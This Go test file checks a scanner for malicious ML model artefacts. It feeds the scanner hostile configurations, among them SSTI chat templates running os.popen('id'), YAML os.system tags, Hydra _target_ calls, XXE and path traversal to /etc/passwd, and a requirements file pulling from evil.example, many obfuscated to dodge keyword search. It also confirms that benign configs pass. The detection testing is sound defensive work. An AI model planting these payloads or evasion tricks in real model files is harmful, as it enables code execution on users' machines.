package artefact

import (
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

// A hostile file is a name and its bytes. None of these is ever loaded here.
type hostile map[string]string

// escaped writes the letters of a JSON text as \u escapes, which every reader of JSON
// takes for the letters.
func escaped(s string) string {
	var b strings.Builder
	for _, c := range s {
		if c >= 'a' && c <= 'z' || c == '_' {
			fmt.Fprintf(&b, `\u%04x`, c)
		} else {
			b.WriteRune(c)
		}
	}
	return b.String()
}

// wideText is UTF-16 with its mark, which json.loads of bytes, XML readers and PyYAML
// all take.
func wideText(order binary.ByteOrder, s string) string {
	b := []byte{}
	put := func(u uint16) { b = binary.LittleEndian.AppendUint16(b, u) }
	if order == binary.BigEndian {
		put = func(u uint16) { b = binary.BigEndian.AppendUint16(b, u) }
	}
	put(0xFEFF)
	for _, u := range utf16.Encode([]rune(s)) {
		put(u)
	}
	return string(b)
}

const (
	lambdaJSON = `{"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": null, "closure": null}}}}]}}`
	ssti       = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
)

// configurations are texts that make a loader import, call or fetch, written so that
// a search for words does not find them.
func configurations() hostile {
	pad := strings.Repeat(" ", 5<<20)
	chat := func(key string) string { return fmt.Sprintf(`{"%s": %q}`, key, ssti) }
	h := hostile{
		"escaped class/config.json":                     strings.NewReplacer(`"class_name"`, `"`+escaped("class_name")+`"`, `"config"`, `"`+escaped("config")+`"`).Replace(lambdaJSON),
		"wide/config.json":                              wideText(binary.LittleEndian, lambdaJSON),
		"wide, big end/config.json":                     wideText(binary.BigEndian, lambdaJSON),
		"wide template/tokenizer_config.json":           wideText(binary.LittleEndian, chat("chat_template")),
		"escaped template/tokenizer_config.json":        chat(escaped("chat_template")),
		"escaped map/config.json":                       `{"` + escaped("auto_map") + `": {"AutoModel": "evil.Model"}}`,
		"late map/config.json":                          `{"a": 1,` + pad + `"auto_map": {"AutoModel": "evil.Model"}}`,
		"map of another case of blanks/config.json":     "{\"auto_map\"\n\t:\n{\"AutoModel\": \"evil.Model\"}}",
		"tokenizer map as a list/config.json":           `{"auto_map": ["evil.Tok", null]}`,
		"late template/chat_template.jinja":             strings.Repeat("{# padding #}\n", 400_000) + ssti,
		"late loose template/prompt.txt":                strings.Repeat("some words\n", 500_000) + ssti,
		"escaped skops/schema.json":                     `{"` + escaped("__class__") + `": "system", "__module__": "os", "` + escaped("__loader__") + `": "FunctionNode", "content": {"module_path": "os", "function": "system"}}`,
		"percent tag/model.yaml":                        "a: !!pyth%6fn/object/apply:os.system ['true']\n",
		"handle tag/model.yaml":                         "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:os.system ['true']\n",
		"wide tag/model.yaml":                           wideText(binary.LittleEndian, "a: !!python/object/apply:os.system ['true']\n"),
		"late tag/model.yaml":                           strings.Repeat("# padding\n", 500_000) + "a: !!python/object/apply:os.system ['true']\n",
		"hydra/model_config.yaml":                       "model:\n  _target_: os.system\n  command: id\n",
		"hydra in json/config.json":                     `{"model": {"_target_": "subprocess.run", "args": "id"}}`,
		"hydra, quoted/model_config.yaml":               "model: {\"_targ\\x65t_\": \"os.system\", command: id}\n",
		"hydra, other function/model_config.yaml":       "model:\n  _target_: evil_module.load\n",
		"monai/inference.json":                          `{"imports": ["$import glob"], "x": "$glob.glob('*')"}`,
		"monai/inference.yaml":                          "net:\n  _target_: monai.networks.nets.UNet\nx: $__import__('os').system('id')\n",
		"peft/adapter_config.json":                      `{"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}`,
		"sentence transformers/modules.json":            `[{"idx": 0, "name": "0", "path": "", "type": "evil_module.Transformer"}]`,
		"diffusers/model_index.json":                    `{"_class_name": ["my_pipeline", "MyPipeline"], "unet": ["my_unet", "UNet"]}`,
		"mlflow/MLmodel":                                "flavors:\n  python_function:\n    loader_module: evil\n    python_version: 3.12\n",
		"mlflow code/MLmodel":                           "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n",
		"caffe/net.prototxt":                            "layer {\n  name: \"x\"\n  type: \"Python\"\n  python_param {\n    module: \"os\"\n    layer: \"system\"\n  }\n}\n",
		"text saved model/saved_model.pbtxt":            "saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: \"x\"\n      op: \"PyFunc\"\n    }\n  }\n}\n",
		"text graph/graph.pbtxt":                        "node {\n  name: \"x\"\n  op: 'WriteFile'\n}\n",
		"onnx in json/model.onnxjson":                   `{"irVersion": "8", "graph": {"initializer": [{"dataLocation": "EXTERNAL", "externalData": [{"key": "location", "value": "../../etc/passwd"}]}]}}`,
		"R in text/model.rds":                           "A\n3\n263168\n197888\n5\nUTF-8\n1\n1\n262153\n",
		"R workspace in text/model.RData":               "RDA3\nA\n3\n263168\n197888\n5\nUTF-8\n",
		"torch 7 in text/model.t7":                      "4\n1\n3\nV 1\n11\nnn.Sequential\n3\n2\n1\n2\n7\nmodules\n",
		"mxnet custom/model-symbol.json":                `{"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "evil"}, "inputs": []}], "heads": [[0,0,0]]}`,
		"pmml behind a comment/model.pmml":              "<?xml version=\"1.0\"?>\n<!--" + strings.Repeat(" padding", 1000) + "-->\n<PMML version=\"4.4\"><Header><Extension name=\"script\" value=\"java.lang.Runtime.getRuntime().exec('id')\"/></Header></PMML>",
		"pmml, wide/model.pmml":                         wideText(binary.LittleEndian, "<?xml version=\"1.0\" encoding=\"UTF-16\"?><PMML version=\"4.4\"><Header><Extension name=\"script\" value=\"java.lang.Runtime.getRuntime().exec('id')\"/></Header></PMML>"),
		"pmml, prefixed/model.pmml":                     "<?xml version=\"1.0\"?><p:PMML xmlns:p=\"http://www.dmg.org/PMML-4_4\" version=\"4.4\"><p:Header><p:Extension name=\"script\" value=\"java.lang.Runtime.getRuntime().exec('id')\"/></p:Header></p:PMML>",
		"openvino behind a comment/model.xml":           "<?xml version=\"1.0\"?>\n<!-- made by -->\n<net name=\"x\" version=\"11\"><layers><layer id=\"0\" name=\"a\" type=\"Evil\" version=\"extension\"/></layers></net>",
		"openvino, wide/model.xml":                      wideText(binary.LittleEndian, "<?xml version=\"1.0\" encoding=\"UTF-16\"?><net name=\"x\" version=\"11\"><layers><layer id=\"0\" name=\"a\" type=\"Evil\" version=\"extension\"/></layers></net>"),
		"openvino, bare/model.xml":                      "<net><layers><layer id=\"0\" name=\"a\" type=\"Evil\" version=\"extension\"/></layers></net>",
		"xml with entities/model.xml":                   "<?xml version=\"1.0\"?><!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><net name=\"x\" version=\"11\"><layers>&x;</layers></net>",
		"onnx in text/model.onnxtxt":                    "ir_version: 8\ngraph {\n  initializer { data_location: EXTERNAL external_data { key: \"location\" value: \"../../../etc/passwd\" } }\n}\n",
		"spacy/config.cfg":                              "[components.x]\nfactory = \"x\"\n[components.x.model]\n@architectures = \"evil.v1\"\n",
		"Llamafile/model.llamafile":                     "MZqFpD='\n\x00" + strings.Repeat("\x00", 200),
		"desktop text/run":                              "#!/bin/sh\nid\n",
		"requirements/requirements.txt":                 "--index-url http://evil.example/simple\ngit+https://evil.example/x.git\n",
		"late, in a long json/config.json":              `{"a": "` + strings.Repeat("x", 6<<20) + `", "auto_map": {"AutoModel": "evil.Model"}}`,
		"keras list/config.json":                        "[" + lambdaJSON + "]",
		"template in the list of templates/config.json": `{"chat_template": [{"name": "default", "template": ` + fmt.Sprintf("%q", ssti) + `}]}`,
		"prompt template in another key/config.json":    fmt.Sprintf(`{"default_template": %q}`, ssti),
		"byte order mark/config.json":                   "\xef\xbb\xbf" + lambdaJSON,
	}
	return h
}

func TestConfigurationsThatRun(t *testing.T) { neverClean(t, configurations()) }

func neverClean(t *testing.T, h hostile) {
	for name, content := range h {
		t.Run(name, func(t *testing.T) {
			if rep := scan(t, name, []byte(content)); rep.Verdict.Clean() {
				t.Errorf("%s (%s) %v", rep.Verdict, rep.Format, rep.Rules)
			}
		})
	}
}

// TestOrdinaryTexts: what stands in the folders of honest models stays clean.
func TestOrdinaryTexts(t *testing.T) {
	for name, content := range map[string]string{
		"tokenizer.json":           `{"added_tokens": [{"content": "\u00e9\u003cpad\u003e"}], "model": {"vocab": {"\u0120the": 1, "__target": 2}}}`,
		"vocab.txt":                "A\n3\n4\nB\n",
		"model_config.yaml":        "model:\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n  optim:\n    _target_: torch.optim.AdamW\n    lr: 0.1\n",
		"powershell.yaml":          "detection:\n  selection:\n    - '$foo('\n",
		"requirements.txt":         "# what it needs\nnumpy==2.1\nscikit-learn>=1.4 ; python_version > '3.9'\ntorch\n",
		"MLmodel":                  "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n",
		"modules.json":             `[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]`,
		"model_index.json":         `{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "unet": ["diffusers", "UNet2DConditionModel"]}`,
		"adapter_config.json":      `{"auto_mapping": null, "base_model_name_or_path": "x", "peft_type": "LORA"}`,
		"adapter2/config.json":     `{"auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}}`,
		"model-symbol.json":        `{"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "Convolution", "name": "c", "inputs": [[0,0,0]]}]}`,
		"config.pbtxt":             "name: \"densenet\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 0\ninput [{ name: \"x\" data_type: TYPE_FP32 dims: [ 3 ] }]\n",
		"label_map.pbtxt":          "item {\n  id: 1\n  name: 'cat'\n}\n",
		"deploy.prototxt":          "layer {\n  name: \"conv1\"\n  type: \"Convolution\"\n  convolution_param { num_output: 8 }\n}\n",
		"conf.yaml":                "a: !!python/tuple [1, 2]\nb: 50%\nc: !local x\n",
		"schema.json":              `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/x", "type": "object"}`,
		"config.cfg":               "[components.ner]\nfactory = \"ner\"\n[components.ner.model]\n@architectures = \"spacy.TransitionBasedParser.v2\"\n",
		"wide.json":                wideText(binary.LittleEndian, `{"hidden_size": 8}`),
		"prompt.txt":               "Hello {{ name }}, {% if x %}welcome{% endif %}\n",
		"tokenizer_config.json":    `{"chat_template": "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"}`,
		"generation_config.json":   `{"do_sample": true, "temperature": 0.6}`,
		"sub/sentence.json":        `{"max_seq_length": 512, "do_lower_case": false}`,
		"plain.xml":                "<?xml version=\"1.0\"?><notes><note>hi</note></notes>",
		"lightgbm.txt":             "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\n",
		"xgboost.json":             `{"learner":{"attributes":{},"feature_names":[],"gradient_booster":{"model":{"gbtree_model_param":{"num_trees":"1"}},"name":"gbtree"}},"version":[2,1,0]}`,
		"keras/metadata.json":      `{"keras_version": "3.3.0", "date_saved": "2024-05-01@10:00:00"}`,
		"special_tokens_map.json":  `{"bos_token": {"content": "<s>", "lstrip": false}, "eos_token": "</s>"}`,
		"preprocessor_config.json": `{"image_processor_type": "ViTImageProcessor", "do_resize": true, "size": {"height": 224}}`,
	} {
		if rep := scan(t, name, []byte(content)); !rep.Verdict.Clean() {
			t.Errorf("%s: %s %v", name, rep.Verdict, rep.Rules)
		}
	}
}
